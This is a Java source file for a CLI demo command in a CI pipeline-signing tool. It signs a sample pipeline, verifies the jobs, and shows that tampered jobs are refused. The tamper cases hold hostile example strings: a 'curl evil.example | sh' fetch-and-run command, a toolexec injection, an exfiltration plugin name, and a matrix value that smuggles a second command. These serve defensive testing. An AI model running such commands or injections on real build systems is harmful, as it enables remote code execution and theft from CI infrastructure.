package dev.signet.cli;

import dev.signet.input.InputLimits;
import dev.signet.job.Job;
import dev.signet.job.JobExpander;
import dev.signet.job.JobJson;
import dev.signet.job.JobVerdict;
import dev.signet.job.JobVerifier;
import dev.signet.json.JsonWriter;
import dev.signet.keys.Algorithm;
import dev.signet.keys.KeyGenerator;
import dev.signet.keys.KeySet;
import dev.signet.keys.Signer;
import dev.signet.keys.VerificationKeys;
import dev.signet.pipeline.CommandStep;
import dev.signet.pipeline.Pipeline;
import dev.signet.pipeline.PipelineParser;
import dev.signet.pipeline.PipelineWriter;
import dev.signet.pipeline.Plugin;
import dev.signet.signing.PipelineSigner;
import java.io.IOException;
import java.io.InputStream;
import java.io.PrintWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.Callable;
import java.util.concurrent.TimeUnit;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import picocli.CommandLine.Command;
import picocli.CommandLine.Model.CommandSpec;
import picocli.CommandLine.Option;
import picocli.CommandLine.Spec;

@Command(
    name = "demo",
    mixinStandardHelpOptions = true,
    description =
        "Run the whole flow in a temporary directory: generate a key, sign a sample pipeline, expand it into jobs, verify and run each job, then tamper with jobs the way a compromised control plane would and show each one refused. Then start a signing service in-process, sign the pipeline through it with a CI OIDC token, see a token from another branch denied, and verify the receipt offline.")
final class DemoCommand implements Callable<Integer> {
  static final String REPO = "git@github.com:acme/widgets.git";

  @Spec CommandSpec spec;

  @Option(names = "--keep", description = "Keep the temporary directory and print its path")
  boolean keep;

  @Option(
      names = "--no-service",
      description = "Skip the signing-service part (it starts a server: a few seconds more)")
  boolean noService;

  private PrintWriter out;

  @Override
  public Integer call() throws Exception {
    out = spec.commandLine().getOut();
    Path dir = Files.createTempDirectory("signet-demo-");
    try {
      return run(dir);
    } finally {
      if (keep) {
        out.println("\nFiles kept in " + dir);
      } else {
        deleteTree(dir);
      }
      out.flush();
    }
  }

  private int run(Path dir) throws Exception {
    heading("1. Generate a signing key (EdDSA)");
    SecureRandom random = new SecureRandom();
    KeyGenerator.GeneratedKey key = KeyGenerator.generate(Algorithm.EdDSA, "demo-key", random);
    Path priv = dir.resolve("EdDSA-demo-key-private.json");
    Path pub = dir.resolve("EdDSA-demo-key-public.json");
    AtomicFiles.createNew(priv, key.privateJwks() + "\n", true);
    AtomicFiles.createNew(pub, key.publicJwks() + "\n", true);
    KeySet publicSet = KeySet.parse(key.publicJwks(), pub.toString());
    out.println(
        "   private key " + priv.getFileName() + " (mode 0600), public key " + pub.getFileName());
    out.println("   thumbprint " + publicSet.describe().getFirst().thumbprint());

    heading("2. Sign the pipeline (" + REPO + ")");
    String yaml = resource("demo-pipeline.yml");
    Files.writeString(dir.resolve("pipeline.yml"), yaml);
    PipelineSigner.refuseInterpolation(yaml, "pipeline.yml");
    Pipeline pipeline = PipelineParser.parse(yaml, "pipeline.yml", InputLimits.DEFAULT);
    Signer signer = KeySet.parse(key.privateJwks(), priv.toString()).signer(null);
    Pipeline signed =
        PipelineSigner.sign(pipeline, signer, new PipelineSigner.Options(null, REPO, true, null));
    AtomicFiles.createNew(dir.resolve("pipeline.signed.yml"), PipelineWriter.toYaml(signed), false);
    out.println(
        "   "
            + pipeline.steps().size()
            + " top-level steps (groups, a matrix, plugins, wait, block, trigger); every command step now carries a signature");
    out.println("   wrote pipeline.signed.yml");

    heading("3. Expand into jobs, as the control plane does");
    List<Job> jobs = JobExpander.expand(signed, REPO, Map.of());
    for (Job j : jobs) {
      out.println("   " + describe(j));
    }
    out.println("   (darwin/amd64 is skipped by an adjustment; freebsd/amd64 is added by one)");

    heading("4. Verify and run each job, as an agent does");
    VerificationKeys keys = publicSet.verificationKeys();
    JobVerifier verifier = new JobVerifier(keys, JobVerifier.FailureBehavior.BLOCK);
    List<String[]> rows = new ArrayList<>();
    int ran = 0;
    for (Job j : jobs) {
      Files.writeString(
          dir.resolve("job-" + j.id() + ".json"), JsonWriter.pretty(JobJson.toJson(j)));
      JobVerdict v = verifier.verify(j);
      if (v instanceof JobVerdict.Verified ok) {
        String output = runCommand(ok.step().command(), j.env(), dir);
        out.println("   ✅ " + describe(j) + "  →  " + output);
        ran++;
      } else {
        out.println("   ⛔ " + describe(j) + " refused: " + explain(v));
      }
    }
    rows.add(
        new String[] {
          "genuine jobs", jobs.size() + " verified and ran", ran == jobs.size() ? "ok" : "FAILED"
        });

    heading("5. Tamper with jobs like a compromised control plane");
    Job build = jobs.getFirst();
    Job matrixJob =
        jobs.stream().filter(j -> !j.matrixPermutation().isEmpty()).findFirst().orElseThrow();
    List<Tamper> tampers =
        List.of(
            new Tamper(
                "change the command",
                build,
                j -> withEnv(j, "BUILDKITE_COMMAND", "curl -s https://evil.example | sh")),
            new Tamper(
                "change the signed step's command too",
                build,
                j ->
                    new Job(
                        j.id(),
                        put(j.env(), "BUILDKITE_COMMAND", "curl -s https://evil.example | sh"),
                        j.step().withCommand("curl -s https://evil.example | sh"),
                        j.matrixPermutation())),
            new Tamper(
                "change a step env value",
                build,
                j -> withEnv(j, "GOFLAGS", "-toolexec=/tmp/steal")),
            new Tamper(
                "change a pipeline env value", build, j -> withEnv(j, "DEPLOY_ENV", "production")),
            new Tamper(
                "swap a plugin",
                build,
                j ->
                    new Job(
                        j.id(),
                        j.env(),
                        j.step()
                            .withPlugins(List.of(new Plugin("evil-org/exfiltrate#v1.0.0", null))),
                        j.matrixPermutation())),
            new Tamper(
                "change plugin config (job env)",
                build,
                j ->
                    withEnv(
                        j,
                        "BUILDKITE_PLUGINS",
                        java.util.Objects.requireNonNull(j.env().get("BUILDKITE_PLUGINS"))
                            .replace("golang:1.22", "evil/golang:latest"))),
            new Tamper(
                "point at another repository",
                build,
                j -> withEnv(j, "BUILDKITE_REPO", "git@github.com:evil/widgets.git")),
            new Tamper(
                "forge a matrix permutation",
                matrixJob,
                j -> forge(j, Map.of("os", "linux; curl evil | sh", "arch", "amd64"))),
            new Tamper(
                "run a skipped combination",
                matrixJob,
                j -> forge(j, Map.of("os", "darwin", "arch", "amd64"))),
            new Tamper(
                "strip the signature",
                build,
                j -> new Job(j.id(), j.env(), j.step().withSignature(null), j.matrixPermutation())),
            new Tamper(
                "reuse another step's signature",
                build,
                j ->
                    new Job(
                        j.id(),
                        j.env(),
                        j.step().withSignature(jobs.getLast().step().signature()),
                        j.matrixPermutation())));
    int refused = 0;
    for (Tamper t : tampers) {
      JobVerdict v = verifier.verify(t.change().apply(t.job()));
      boolean ok = !v.mayRun();
      refused += ok ? 1 : 0;
      out.printf(
          java.util.Locale.ROOT,
          "   %s %-38s %s%n",
          ok ? "⛔" : "‼️",
          t.name(),
          ok ? "refused: " + explain(v) : "NOT REFUSED");
      rows.add(
          new String[] {
            t.name(),
            ok
                ? "refused ("
                    + ((JobVerdict.Failed) v)
                        .check()
                        .name()
                        .toLowerCase(java.util.Locale.ROOT)
                        .replace('_', ' ')
                    + ")"
                : "RAN",
            ok ? "ok" : "FAILED"
          });
    }

    boolean serviceOk =
        noService || new DemoService(spec, out, rows).run(dir, dir.resolve("pipeline.yml"));

    heading("Summary");
    int w0 = rows.stream().mapToInt(r -> r[0].length()).max().orElse(10);
    int w1 = rows.stream().mapToInt(r -> r[1].length()).max().orElse(10);
    out.printf(
        java.util.Locale.ROOT,
        "   %-" + w0 + "s  %-" + w1 + "s  %s%n",
        "case",
        "outcome",
        "as expected");
    out.println("   " + "-".repeat(w0) + "  " + "-".repeat(w1) + "  -----------");
    for (String[] r : rows) {
      out.printf(java.util.Locale.ROOT, "   %-" + w0 + "s  %-" + w1 + "s  %s%n", r[0], r[1], r[2]);
    }
    boolean allGood = ran == jobs.size() && refused == tampers.size() && serviceOk;
    out.println();
    out.println(
        allGood
            ? "   All "
                + jobs.size()
                + " genuine jobs ran; all "
                + tampers.size()
                + " tampered jobs were refused before running."
            : "   Something was not as expected: see the table above.");
    if (allGood && !noService) {
      out.println(
          "   The service signed for branch main, denied "
              + DemoService.DENIED_BRANCH
              + " and logged it; the receipt verified offline and a changed byte was refused.");
    }
    return allGood ? ExitCode.OK : ExitCode.INTERNAL;
  }

  private record Tamper(String name, Job job, UnaryOperator<Job> change) {}

  private static Job withEnv(Job j, String name, String value) {
    return new Job(j.id(), put(j.env(), name, value), j.step(), j.matrixPermutation());
  }

  private static java.util.SequencedMap<String, String> put(
      Map<String, String> env, String name, String value) {
    LinkedHashMap<String, String> copy = new LinkedHashMap<>(env);
    copy.put(name, value);
    return copy;
  }

  /** A forged permutation with the command the control plane would then send along with it. */
  private static Job forge(Job j, Map<String, String> permutation) {
    LinkedHashMap<String, String> perm = new LinkedHashMap<>(permutation);
    String command =
        j.step()
            .command()
            .replace("{{matrix.os}}", perm.get("os"))
            .replace("{{matrix.arch}}", perm.get("arch"));
    return new Job(j.id(), put(j.env(), "BUILDKITE_COMMAND", command), j.step(), perm);
  }

  private static String describe(Job j) {
    CommandStep s = j.step();
    String name = s.label() != null ? s.label() : s.key() != null ? s.key() : "step";
    for (var e : j.matrixPermutation().entrySet()) {
      name = name.replace("{{matrix." + e.getKey() + "}}", e.getValue());
    }
    return String.format(java.util.Locale.ROOT, "%-22s", name);
  }

  private static String explain(JobVerdict v) {
    if (v instanceof JobVerdict.Failed f) {
      return f.check().name().toLowerCase(java.util.Locale.ROOT).replace('_', ' ')
          + (f.field() == null ? "" : " [" + f.field() + "]");
    }
    return "ran";
  }

  private static String runCommand(String command, Map<String, String> env, Path dir)
      throws IOException, InterruptedException {
    ProcessBuilder pb =
        new ProcessBuilder("bash", "-c", command).directory(dir.toFile()).redirectErrorStream(true);
    pb.environment().putAll(env);
    Process p = pb.start();
    byte[] output;
    try (InputStream in = p.getInputStream()) {
      output = in.readNBytes(4096);
    }
    if (!p.waitFor(30, TimeUnit.SECONDS)) {
      p.destroyForcibly();
      return "(timed out)";
    }
    String text = new String(output, StandardCharsets.UTF_8).strip().replace('\n', ' ');
    return p.exitValue() == 0 ? text : text + " (exit " + p.exitValue() + ")";
  }

  private void heading(String text) {
    out.println();
    out.println(text);
  }

  static String resource(String name) throws IOException {
    try (InputStream in = DemoCommand.class.getResourceAsStream(name)) {
      if (in == null) {
        throw new IOException("missing resource " + name);
      }
      return new String(in.readAllBytes(), StandardCharsets.UTF_8);
    }
  }

  private static void deleteTree(Path dir) throws IOException {
    try (Stream<Path> walk = Files.walk(dir)) {
      for (Path p : walk.sorted(Comparator.reverseOrder()).toList()) {
        Files.deleteIfExists(p);
      }
    }
  }
}
